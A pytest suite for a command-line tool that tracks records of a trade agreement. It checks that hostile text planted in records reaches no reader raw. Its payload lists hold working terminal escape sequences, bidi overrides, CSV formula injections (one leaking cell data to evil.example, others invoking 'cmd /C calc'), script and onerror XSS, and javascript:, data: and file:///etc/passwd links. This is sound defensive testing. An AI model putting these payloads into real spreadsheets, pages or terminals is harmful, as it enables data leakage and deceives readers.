"""Text from the records cannot attack the reader, and every error is one line.

A hostile officer (or a merged clone, or a hand edit) can put anything into a record: escape
sequences that clear the screen, retitle the terminal or fake a link, C1 controls, carriage
returns that overwrite a line, direction overrides that reorder it, spreadsheet formulas,
`javascript:` links. Each such text is planted in every field a person reads, then every command
and format is run: nothing reaches the reader raw.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import signal
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from filelock import FileLock
from markdown_it import MarkdownIt

from accord import views
from accord.cli import app
from accord.errors import DataError
from conftest import Accord, copy_records, run_accord
from helpers import LOCK, assert_untouched, leftovers, outcome, parse_json, snapshot

TODAY = "2026-11-27"
MARK = "MARK"

# Each a separate attack; the last ones also probe Markdown, HTML and the spreadsheet.
HOSTILE = [
    "\x1b]0;pwned\x07",  # OSC: retitle the terminal, ended by BEL
    "\x1b]0;pwned\x1b\\",  # the same, ended by ST
    "\x1b[2J\x1b[H",  # CSI: clear the screen, cursor home
    "\x1b[1A\x1b[2Khidden",  # cursor up, erase the line above
    "\x1b[31mRED\x1b[0m",  # colour
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",  # OSC 8: a link whose target is hidden
    "\x9b2J\x9d0;c1\x9c",  # C1 CSI, OSC and ST as single characters
    "\x85next\x90dcs",  # C1 NEL and DCS
    "ding\x07\x07",  # BEL
    "safe\x08\x08\x08\x08evil",  # backspaces over the text before
    "innocent\rEVIL",  # carriage return: overwrite the line
    "line one\nline two\r\nline three",  # line breaks where one line is expected
    "tab\there\x0bvt\x0cff",  # tab, vertical tab, form feed
    "nul\x00del\x7f",
    "\u202eexe.txt",  # right-to-left override
    "\u202atext\u202b\u202c\u202d",  # embeddings and pop
    "\u2066isolate\u2067\u2068\u2069",  # isolates
    "mark\u200e\u200f\u061c",  # direction marks
    "zero\u200dwidth\u200bjoin\ufeff",  # zero-width joiner, space, BOM: shown, harmless
    '=HYPERLINK("https://evil.example/?leak="&A1,"Minutes")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "[click](javascript:alert(1)) <javascript:alert(2)> ![i](data:text/html,x)",
]

# Evidence links as they may stand in a record edited by hand; only the first may become a link.
EVIDENCE = [
    "https://example.org/minutes?a=1&b=2",
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "vbscript:msgbox(1)",
    "https://example.org/\x1b[1Ahidden",
    "//evil.example/no-scheme",
]

# Code points that must never reach a person's screen raw (tab and line feed are layout).
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
SGR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own bold and reverse on a terminal
FORMULA = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def q(text: str) -> str:
    """A YAML double-quoted scalar: json's escapes are a subset of YAML's."""
    return json.dumps(text)


def replace(path: Path, old: str, new: str) -> None:
    text = path.read_text("utf-8")
    assert text.count(old) == 1, (path, old)
    path.write_text(text.replace(old, new), "utf-8")


def plant(records: Path, text: str) -> None:
    """`text` in every field a person reads: titles, owner, section, history, series, sources."""
    t = text + " " + MARK
    article = records / "articles" / "4.yaml"
    replace(
        article,
        "  title: Reach USD 150 billion bilateral trade in a balanced, sustainable way\n",
        f"  title: {q(t + ' Reach USD 150 billion bilateral trade')}\n",
    )
    replace(
        article,
        "  status: not_started\n  due: '2030-12-31'\n",
        f"  status: not_started\n  owner: {q(t)}\n  due: '2030-12-31'\n",
    )
    events = [
        f"- at: '2026-11-25T09:00:00.000000Z'\n  by: {q(t)}\n  id: '4.5'\n  field: owner\n  new: {q(t)}\n"
        f"  note: {q(t)}\n  evidence: {q(EVIDENCE[0])}\n"
    ]
    for minute, link in enumerate(EVIDENCE[1:], start=1):
        events.append(
            f"- at: '2026-11-25T09:{minute:02d}:00.000000Z'\n  by: Le Van A\n  id: '4.5'\n"
            f"  note: {q(f'Minutes {minute} ' + t)}\n  evidence: {q(link)}\n"
        )
    replace(article, "history: []\n", "history:\n" + "".join(events))
    target = records / "targets" / "trade.yaml"
    replace(
        target,
        "title: Bilateral trade turnover",
        f"title: {q(t + ' Bilateral trade turnover of 150 billion USD by 2030')}\n#",
    )
    replace(target, "  label: Korean series (KITA / MOTIE)\n", f"  label: {q(t)}\n")
    replace(target, "    source: hankyung.com\n", f"    source: {q(t)}\n")
    replace(target, "    note: first published as 86.7\n", f"    note: {q(t)}\n")
    statement = records / "statement.yaml"
    replace(
        statement,
        "  title: Economic, trade, investment, science, technology and development cooperation\n",
        f"  title: {q(t + ' Economic cooperation')}\n",
    )
    replace(statement, "title: Joint statement on deepening", f"title: {q(t + ' Joint statement')}\n#")


def assert_inert(text: str, where: str) -> None:
    found = RAW.search(text)
    if found:
        around = text[max(0, found.start() - 40) : found.end() + 40]
        raise AssertionError(f"{where}: raw {found.group()!r} reaches the reader: {around!r}")


def spelled(text: str) -> list[str]:
    """How the controls of `text` must appear: `\\x1b` for a control, `<U+202E>` for a direction override."""
    shown = []
    for char in text.replace("\r\n", "\n"):  # a Windows line break is a line break
        if char in "\n\t":
            continue
        if RAW.fullmatch(char) and ord(char) <= 0xFF:
            shown.append(f"\\x{ord(char):02x}")
        elif RAW.fullmatch(char):
            shown.append(f"<U+{ord(char):04X}>")
    return shown


# What people read: every command, in every format made for people.
FOR_PEOPLE = [
    ("list",),
    ("list", "--articles"),
    ("list", "--format", "ids"),
    ("list", "--owner", MARK),
    ("show", "4.5"),
    ("show", "4"),
    ("show", "trade"),
    ("search", "Reach USD"),
    ("search", "--ids", "Reach USD"),
    ("search", "--count", "Reach USD"),
    ("log",),
    ("log", "4.5"),
    ("stats",),
    ("progress", "--today", TODAY),
    ("progress", "trade", "--today", TODAY),
    ("progress", "--format", "md", "--today", TODAY),
    ("report", "--today", TODAY),
    ("validate",),
]
# For tools: exact text, escaped by json itself (and by accord, for what json leaves raw).
FOR_TOOLS = [
    ("list", "--format", "json"),
    ("show", "4.5", "--format", "json"),
    ("show", "trade", "--format", "json"),
    ("search", "Reach USD", "--format", "json"),
    ("log", "--format", "json"),
    ("stats", "--format", "json"),
    ("progress", "--format", "json", "--today", TODAY),
    ("report", "--format", "json", "--today", TODAY),
]
SPREADSHEETS = [
    ("list", "--format", "csv"),
    ("log", "--format", "csv"),
    ("stats", "--format", "csv"),
    ("progress", "--format", "csv", "--today", TODAY),
]
YAML = [("show", "4.5", "--format", "yaml")]


@pytest.fixture(params=range(len(HOSTILE)), ids=[repr(h)[1:13] for h in HOSTILE])
def hostile(request: pytest.FixtureRequest, records: Path) -> str:
    text: str = HOSTILE[request.param]
    plant(records, text)
    return text


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += attrs


def assert_safe_html(page: str, where: str) -> None:
    parser = Tags()
    parser.feed(page)
    assert "script" not in parser.tags, where
    assert "img" not in parser.tags, where
    events = [name for name, _ in parser.attrs if name.startswith("on")]
    assert not events, (where, events)
    links = [value or "" for name, value in parser.attrs if name in ("href", "src", "xlink:href")]
    assert all(link.startswith(("https://", "http://", "#")) for link in links), (where, links)


@pytest.mark.slow
def test_stored_hostile_text_reaches_no_reader_raw(hostile: str, accord: Accord) -> None:
    """Every command in every format, on records holding one hostile text in every field people read."""
    planted = hostile + " " + MARK
    outputs = {}
    for args in FOR_PEOPLE + FOR_TOOLS + SPREADSHEETS + YAML:
        out = accord(*args)
        assert out.code == (1 if args[0] == "validate" else 0), (args, out.stderr)
        assert "Traceback" not in out.stderr
        assert_inert(out.stderr, " ".join(args) + " (stderr)")
        if args not in SPREADSHEETS + YAML:  # csv and yaml carry the text; checked below
            assert_inert(out.stdout, " ".join(args))
        outputs[args] = out.stdout

    # People see each control spelled out, and the text itself, not dropped.
    show = outputs[("show", "4.5")]
    for mark in spelled(hostile):
        assert mark in show, (mark, show)
    assert show.count(MARK) >= 3  # title, owner, note

    # Tools get the text exactly.
    data = parse_json(outputs[("show", "4.5", "--format", "json")])
    assert data["owner"] == planted and data["history"][0]["note"] == planted
    rows = parse_json(outputs[("list", "--format", "json")])
    assert [r["owner"] for r in rows if r["id"] == "4.5"] == [planted]
    assert yaml.safe_load(outputs[YAML[0]])["owner"] == planted

    # Spreadsheets run no formula, and keep the data (from the exact bytes: the runner's text
    # would turn CR LF into LF).
    for args in SPREADSHEETS:
        for row in csv.reader(io.StringIO(outputs[args], newline="")):
            for cell in row:
                assert not cell.startswith(FORMULA) or NUMBER.fullmatch(cell), (args, cell)
    exact = accord.runner.invoke(app, ["list", "--format", "csv"], env={"ACCORD_DIR": str(accord.records)})
    rows = list(csv.DictReader(io.StringIO(exact.stdout_bytes.decode("utf-8"), newline="")))
    owner = next(r["owner"] for r in rows if r["id"] == "4.5")
    assert owner == ("'" + planted if planted.startswith(FORMULA) else planted)

    # Markdown, as a wiki renders it: no live HTML, links only to http(s).
    report = outputs[("report", "--today", TODAY)]
    page = MarkdownIt("commonmark").enable("table").render(report)
    assert_safe_html(page, "report md rendered")
    assert 'href="https://example.org/minutes?a=1&amp;b=2"' in page
    assert not re.search(r"(?<!\\)\]\((javascript|data|file|vbscript):", report, re.IGNORECASE)


def _groups(strings: list[str], most: int) -> list[str]:
    """The strings joined into as few texts as fit the shortest bound they are planted under."""
    groups = [""]
    for text in strings:
        if groups[-1] and len(groups[-1]) + len(text) > most:
            groups.append("")
        groups[-1] += text
    return groups


@pytest.mark.slow
@pytest.mark.parametrize("planted", _groups(HOSTILE, 150))
def test_html_report_has_no_script_no_live_link_and_no_raw_control(
    records: Path, accord: Accord, tmp_path: Path, planted: str
) -> None:
    plant(records, planted)
    page_path = tmp_path / "report.html"
    out = accord("report", "--today", TODAY, "--format", "html", "-o", str(page_path))
    assert out.code == 0, out.stderr
    page = page_path.read_text("utf-8")
    assert_inert(page, "report html")
    assert_safe_html(page, "report html")
    assert '<a href="https://example.org/minutes?a=1&amp;b=2">' in page
    assert "javascript:alert(document.domain)" in page  # shown as text, not as a link
    if "\u202e" in planted:
        assert "&lt;U+202E&gt;" in page


def test_validate_names_every_evidence_that_is_not_an_http_link(records: Path, accord: Accord) -> None:
    plant(records, "harmless")
    out = accord("validate")
    assert out.code == 1
    lines = [line for line in out.stderr.splitlines() if "evidence" in line]
    assert len(lines) == len(EVIDENCE) - 1, out.stderr
    assert all(re.match(r".*articles/4\.yaml:\d+: evidence ", line) for line in lines), lines
    assert any("javascript:alert(document.domain)" in line for line in lines)
    assert_inert(out.stderr, "validate")


def _on_a_terminal(args: list[str], cwd: Path, env: dict[str, str]) -> str:
    """Run accord with its stdout on a pseudo-terminal; what the terminal received."""
    leader, follower = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "accord", *args],
        cwd=cwd,
        stdout=follower,
        stderr=subprocess.PIPE,
        env={**os.environ, **env},
    )
    os.close(follower)
    received = b""
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the terminal closed
            break
        if not chunk:
            break
        received += chunk
    os.close(leader)
    process.wait(timeout=60)
    assert process.returncode == 0, process.stderr.read() if process.stderr else ""
    if process.stderr:
        process.stderr.close()
    return received.decode("utf-8")


@pytest.mark.slow
def test_on_a_terminal_only_accords_own_styles_reach_it(tmp_path: Path) -> None:
    for number, planted in enumerate(_groups(HOSTILE[:18], 150)):
        records = copy_records(tmp_path / f"group-{number}")
        plant(records, planted)
        env = {"ACCORD_DIR": str(records)}
        for args in (["search", "Reach USD"], ["list"], ["log"], ["show", "4.5"]):
            shown = _on_a_terminal(args, tmp_path, env)
            assert MARK in shown
            assert_inert(SGR.sub("", shown).replace("\r\n", "\n"), " ".join(args) + " on a tty")


# -- the command line: hostile and absurd arguments ---------------------------------------------

LONG_ID = "4." + "7" * 300
HUGE = "x" * 10_000
ESC_ID = "\x1b]0;pwned\x07\u202e"

REFUSED = [
    ("show", ESC_ID),
    ("show", LONG_ID),
    ("log", ESC_ID),
    ("note", LONG_ID, "hello"),
    ("note", "4.5", "hello", "--evidence", "javascript:alert(1)"),
    ("note", "4.5", "hello", "--evidence", "data:text/html,<script>alert(1)</script>"),
    ("note", "4.5", "hello", "--evidence", "https://example.org/ hidden"),
    ("note", "4.5", "hello", "--evidence", "javascript: " + "many words " * 1000),
    ("note", "4.5", "hello", "--evidence", "file:///etc/passwd\x1b[2J"),
    ("set", "4.5", "in_progress", "--on", "2026-02-30"),
    ("set", "4.5", "in_progress", "--on", "\x1b[2J2026-01-01"),
    ("set", "4.5", "in_progress", "--on", HUGE),
    ("set", "4.5", HUGE),
    ("set", "4.5", "\x1b]0;pwned\x07done"),
    ("set", ESC_ID, "completed"),
    ("edit", "4.5", "--due", "31/12/2030"),
    ("edit", "4.5", "--due", HUGE),
    ("edit", "4.5", "--tag", "\x1b[2J"),
    ("measure", "trade", "\x1b[2J", "--period", "2026", "--source", "x"),
    ("measure", "trade", HUGE, "--period", "2026", "--source", "x"),
    ("measure", "trade", "nan", "--period", "2026", "--source", "x"),
    ("measure", ESC_ID, "1", "--period", "2026", "--source", "x"),
    ("log", "--since", "\x1b[2J"),
    ("log", "--since", HUGE),
    ("list", "--status", HUGE),
    ("list", "--side", "\u202eaerok"),
    ("list", "--due-before", "\x9b2J"),
    ("list", "--format", "\x1b[2J"),
    ("list", "--bogus-option"),
    ("list", "--section", "two"),
    ("show",),
    ("search", "-E", "("),
    ("report", "--week", "\x1b[2J"),
    ("report", "--week", "9999-W52"),
    ("report", "--week", "0001-W01"),
    ("report", "--today", "0001-01-01"),
    ("report", "--since", "0001-01-01", "--today", TODAY),
    ("report", "--since", HUGE),
    ("progress", "--today", HUGE),
]


@pytest.mark.parametrize("args", REFUSED, ids=[" ".join(a)[:40].encode("unicode_escape").decode() for a in REFUSED])
def test_bad_arguments_get_one_short_escaped_line_and_change_nothing(
    args: tuple[str, ...], accord: Accord, records: Path
) -> None:
    before = snapshot(records)
    out = accord(*args)
    assert out.code == 2, (out.code, out.stderr)
    assert "Traceback" not in out.stderr
    lines = out.stderr.splitlines()
    assert len(lines) == 1, out.stderr
    assert lines[0].startswith("accord: ")
    assert len(lines[0]) <= 600, len(lines[0])  # 500 for the message, its prefix and hint
    assert_inert(out.stderr, "stderr")
    assert out.stdout == ""
    assert_untouched(records, before)


def test_a_very_long_article_id_is_one_short_line(accord: Accord, records: Path) -> None:
    before = snapshot(records)
    out = accord("show", "a" * 300)
    assert out.code != 0
    lines = out.stderr.splitlines()
    assert len(lines) == 1 and len(lines[0]) <= 600 and "…" in lines[0], out.stderr
    assert_untouched(records, before)


@pytest.mark.parametrize("text", HOSTILE[:18], ids=[repr(h)[1:13] for h in HOSTILE[:18]])
def test_a_change_echoes_hostile_values_escaped(text: str, accord: Accord, records: Path) -> None:
    """Whether accord takes the text or refuses it, the confirmation or the error shows it inert."""
    for args in (
        ("edit", "4.5", "--owner", text),
        ("undo",),
        ("note", "4.5", text),
        ("set", "4.5", "stalled", "--by", text),
    ):
        before = snapshot(records)
        out = accord(*args)
        assert_inert(out.stdout + out.stderr, " ".join(args))
        assert "Traceback" not in out.stderr
        if out.code != 0:
            assert out.code == 2 and len(out.stderr.splitlines()) == 1, out.stderr
            assert_untouched(records, before)


# -- failures of accord itself, and of its surroundings ------------------------------------------

BUGGY = """
import sys
import accord.storage

def find(*args, **kwargs):
    raise RuntimeError("boom \\x1b[2J in the core\\nsecond line")

accord.storage.find = accord.storage.find_data = find
from accord.__main__ import main
sys.argv = ["accord", *sys.argv[1:]]
main()
"""


def run_buggy(records: Path, tmp_path: Path, **env: str) -> subprocess.CompletedProcess[str]:
    """`accord show 4.5` in a process where the core raises an error accord does not expect."""
    return subprocess.run(
        [sys.executable, "-c", BUGGY, "show", "4.5"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env={**os.environ, "ACCORD_DIR": str(records), **env},
    )


def test_a_bug_is_one_line_and_exit_3(records: Path, tmp_path: Path) -> None:
    done = run_buggy(records, tmp_path)
    assert done.returncode == 3
    assert done.stdout == ""
    assert done.stderr == (
        "accord: internal error: RuntimeError: boom \\x1b[2J in the core second line; "
        "rerun with ACCORD_DEBUG=1 for the traceback\n"
    )


def test_accord_debug_shows_the_traceback(records: Path, tmp_path: Path) -> None:
    done = run_buggy(records, tmp_path, ACCORD_DEBUG="1")
    assert done.returncode == 3
    assert done.stderr.startswith("Traceback (most recent call last):")
    assert 'File "<string>"' in done.stderr and "RuntimeError: boom" in done.stderr
    assert done.stderr.splitlines()[-1].startswith("accord: internal error: RuntimeError")


def test_a_bug_in_process_is_exit_3_too(accord: Accord, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*args: object) -> None:
        raise KeyError("no such column")

    monkeypatch.setattr(views, "stats_rows", broken)
    out = accord("stats")
    assert out.code == 3
    assert out.stderr == (
        "accord: internal error: KeyError: 'no such column'; rerun with ACCORD_DEBUG=1 for the traceback\n"
    )


def test_an_error_that_a_ctrl_c_caused_exits_130_quietly(accord: Accord, monkeypatch: pytest.MonkeyPatch) -> None:
    """Python wraps a Ctrl-C that lands while a class is made (importing pydantic, say) in an error
    of its own, and SQLite one that lands in a function it calls; an error raised while one was
    handled is its doing too. None of them is a bug or a data error to report."""

    def wrapped(*args: object) -> None:
        try:
            raise KeyboardInterrupt
        except KeyboardInterrupt as exc:
            raise RuntimeError("Error calling __set_name__") from exc

    def while_handled(*args: object) -> None:
        try:
            raise KeyboardInterrupt
        except KeyboardInterrupt:
            raise DataError(Path("articles/4.yaml"), None, "cannot read the file") from None

    for broken in (wrapped, while_handled):
        monkeypatch.setattr(views, "stats_rows", broken)
        out = accord("stats")
        assert (out.code, out.stdout, out.stderr) == (130, "", "accord: interrupted\n")


def test_ctrl_c_while_waiting_for_the_lock_exits_130_quietly(records: Path, tmp_path: Path) -> None:
    before = snapshot(records)
    with FileLock(str(records / LOCK)):
        process = subprocess.Popen(
            [sys.executable, "-m", "accord", "note", "4.5", "never written"],
            cwd=tmp_path,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env={**os.environ, "ACCORD_DIR": str(records), "ACCORD_LOCK_TIMEOUT": "60", "ACCORD_USER": "T"},
            # As a shell starts a command: a test run started in the background (`cmd &`, nohup)
            # ignores SIGINT, which a child inherits, and then no Ctrl-C would ever reach it.
            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
        )
        time.sleep(1.5)  # most likely waiting for the lock by now; any earlier moment must be quiet too
        process.send_signal(signal.SIGINT)
        stdout, stderr = process.communicate(timeout=60)
    # 130, or killed by the SIGINT itself, which a shell reports as 130 too: `python -m` ends that
    # way now and then when the Ctrl-C lands while it starts.
    assert process.returncode in (130, -signal.SIGINT)
    assert stdout == ""
    assert stderr in ("", "accord: interrupted\n")
    assert_untouched(records, before)
    assert leftovers(records) == []


@pytest.mark.parametrize(
    "args", [("list",), ("log",), ("show", "4.5"), ("search", "handel"), ("report",), ("log", "-f", "csv")]
)
def test_a_closed_pipe_is_silent(args: tuple[str, ...], records: Path, tmp_path: Path) -> None:
    """`accord list | head -1`: the reader is gone; no message, the exit status of a process killed by SIGPIPE."""
    reader, writer = os.pipe()
    os.close(reader)  # the reader has gone before accord writes anything
    try:
        done = subprocess.run(
            [sys.executable, "-m", "accord", *args],
            cwd=tmp_path,
            stdout=writer,
            stderr=subprocess.PIPE,
            text=True,
            env={**os.environ, "ACCORD_DIR": str(records)},
        )
    finally:
        os.close(writer)
    assert done.returncode == 141
    assert done.stderr == ""


def test_a_closed_pipe_in_a_shell_pipeline(records: Path, tmp_path: Path) -> None:
    done = subprocess.run(
        ["bash", "-c", f"set -o pipefail; {sys.executable} -m accord log --format json | head -c 1"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env={**os.environ, "ACCORD_DIR": str(records)},
    )
    assert done.stdout == "["
    assert done.stderr == ""


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp1252"])
def test_an_output_that_cannot_encode_a_character_gets_an_ascii_form(
    encoding: str, records: Path, tmp_path: Path
) -> None:
    plant(records, "\u202eexe.txt → ✓ Việt Nam")
    env = {**os.environ, "ACCORD_DIR": str(records), "PYTHONIOENCODING": encoding}
    shown = {}
    for args in (
        ["progress", "--today", TODAY],
        ["report", "--today", TODAY],
        ["show", "4.5"],
        ["search", "creeren"],
        ["list"],
        ["show", ESC_ID + "ệ"],
    ):
        done = subprocess.run([sys.executable, "-m", "accord", *args], cwd=tmp_path, capture_output=True, env=env)
        stderr = done.stderr.decode(encoding)
        assert done.returncode == (2 if "ệ" in args[-1] else 0), (args, stderr)
        assert "Traceback" not in stderr and "UnicodeEncodeError" not in stderr, stderr
        assert len(stderr.splitlines()) <= 1
        shown[" ".join(args)] = done.stdout.decode(encoding)
    assert "\\u2192" in shown["show 4.5"] and "<U+202E>" in shown["show 4.5"]


# -- report -o ------------------------------------------------------------------------------------


def _special_targets(tmp_path: Path) -> dict[str, Path]:
    real = tmp_path / "real.md"
    real.write_text("keep me\n")
    link = tmp_path / "link.md"
    link.symlink_to(real)
    fifo = tmp_path / "fifo.md"
    os.mkfifo(fifo)
    folder = tmp_path / "folder.md"
    folder.mkdir()
    dangling = tmp_path / "dangling.md"
    dangling.symlink_to(tmp_path / "nowhere.md")
    return {"symbolic link": link, "named pipe": fifo, "folder": folder, "dangling link": dangling}


@pytest.mark.parametrize("kind", ["symbolic link", "named pipe", "folder", "dangling link"])
def test_report_refuses_to_write_anything_but_a_regular_file(kind: str, accord: Accord, tmp_path: Path) -> None:
    targets = _special_targets(tmp_path)
    before = {p.name: (p.lstat().st_mode, os.readlink(p) if p.is_symlink() else None) for p in tmp_path.iterdir()}
    out = accord("report", "-o", str(targets[kind]))
    assert out.code == 2
    lines = out.stderr.splitlines()
    assert len(lines) == 1 and "not a regular file" in lines[0], out.stderr
    after = {p.name: (p.lstat().st_mode, os.readlink(p) if p.is_symlink() else None) for p in tmp_path.iterdir()}
    assert after == before
    assert (tmp_path / "real.md").read_text() == "keep me\n"
    assert not (tmp_path / "nowhere.md").exists()


def test_report_replaces_a_regular_file_and_dash_is_stdout(accord: Accord, tmp_path: Path) -> None:
    existing = tmp_path / "weekly.md"
    existing.write_text("last week\n")
    existing.chmod(0o640)
    assert accord("report", "--today", TODAY, "-o", str(existing)).code == 0
    assert existing.read_text().startswith("# Progress report")
    assert existing.stat().st_mode & 0o777 == 0o640
    out = accord("report", "--today", TODAY, "-o", "-")
    assert out.code == 0 and out.stdout == existing.read_text()
    assert not (tmp_path / "-").exists()


def test_report_with_an_unreadable_record_says_so_and_exits_2(accord: Accord, records: Path, tmp_path: Path) -> None:
    broken = records / "articles" / "7.yaml"
    broken.write_text(broken.read_text("utf-8") + "status: completed\n", "utf-8")  # a duplicate key
    for fmt in ("md", "json", "html"):
        page = tmp_path / f"report.{fmt}"
        out = accord("report", "--today", TODAY, "--format", fmt, "-o", str(page))
        assert out.code == 2, out.stderr
        assert "7.yaml" in out.stderr and "the report leaves out 1 unreadable record\n" in out.stderr
        text = page.read_text("utf-8")
        assert "7.yaml" in text  # the report names what it left out ...
        assert str(tmp_path) not in text and str(records) not in text  # ... without a local path
    problems = parse_json(accord("report", "--today", TODAY, "--format", "json").stdout)["problems"]
    assert len(problems) == 1 and problems[0].startswith("articles/7.yaml:")


def test_a_mistyped_option_is_one_line_with_a_hint(accord: Accord) -> None:
    out = accord("list", "--statsu", "x")
    assert out.code == 2
    assert out.stderr.count("\n") == 1, out.stderr
    assert "No such option: --statsu" in out.stderr and "accord list -h" in out.stderr


def test_the_hint_names_the_command_when_run_as_a_python_module(records: Path) -> None:
    out = run_accord("report", "--bogus", cwd=records)  # `python -m accord report --bogus`
    assert out.returncode == 2
    assert out.stderr == "accord: No such option: --bogus (see 'accord report -h')\n"


def test_a_bad_choice_echoes_the_value_escaped(accord: Accord) -> None:
    out = accord("report", "--format", "\x1b]0;pwned\x07pdf")
    assert out.code == 2
    assert out.stderr.count("\n") == 1
    assert "\\x1b]0;pwned\\x07pdf" in out.stderr
    assert_inert(out.stderr, "stderr")


def test_an_unknown_id_is_echoed_escaped(records: Path, tmp_path: Path) -> None:
    result = outcome(run_accord("show", ESC_ID, cwd=tmp_path, env={"ACCORD_DIR": str(records)}))
    assert result.code == 2
    assert result.stderr.count("\n") == 1
    assert "'\\x1b]0;pwned\\x07" in result.stderr
    assert_inert(result.stderr, "stderr")
